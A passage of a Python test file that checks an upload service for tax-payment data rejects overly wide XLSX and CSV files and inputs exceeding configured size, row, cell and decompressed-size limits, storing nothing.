    wide_row = _rewritten(xlsx_bytes([[GOOD, "V1", "2026-03", "印花税", 1, "2026-04-15"]]), "xl/worksheets/sheet1.xml",
                          lambda xml: re.sub(rb"<dimension [^>]*>", b"", xml).replace(b"</row></sheetData>", far_cell))
    _refused(run(session, world, wide_row, name="wide.xlsx"), "第2行有16384列")
    assert records(session) == 0


def test_a_csv_header_of_a_hundred_thousand_columns_is_refused_and_not_kept(session: Session, world: World) -> None:
    wide = csv_bytes([payment("V1")], header=[*HEADER, *(f"列{n}" for n in range(100_000))])
    batch = run(session, world, wide)
    _refused(batch, "表头有100006列，超过上限256列")
    assert batch.columns is None and records(session) == 0
    # A data row wider than the limit, under a good header, is refused too.
    _refused(run(session, world, csv_bytes([payment("V1") + ["x"] * 300])), "第2行有306列")


def test_size_rows_and_cells_limits_come_from_settings(session: Session, world: World, client: TestClient,
                                                       limits: Callable[..., None]) -> None:
    data = csv_bytes([payment(f"V{n}") for n in range(5)])
    limits(file_bytes=len(data) - 1)
    _refused(run(session, world, data), "文件过大", "请拆分后分批上传")
    limits(file_bytes=1 << 20, rows=4)
    _refused(run(session, world, data), "超过4行数据的上限")
    limits(rows=100, cells=5 * len(HEADER) - 1)
    _refused(run(session, world, data), "单元格")
    limits(cells=5 * len(HEADER), unpacked_bytes=1000)
    assert run(session, world, data).status == "committed"
    _refused(run(session, world, xlsx_bytes([[GOOD, "V9", "2026-03", "印花税", 1, "2026-04-15"]]), name="t.xlsx"),
             "解压后达")
    # Through the API: 422 with the reason, nothing stored.
    limits(file_bytes=100)
    response = client.post("/api/v1/credit-data/tax_payment/files", headers=_token(session, world.tax_org),
                           files={"file": ("tax.csv", data, "text/csv")})
    assert response.status_code == 422 and "文件过大" in response.json()["error"], response.text
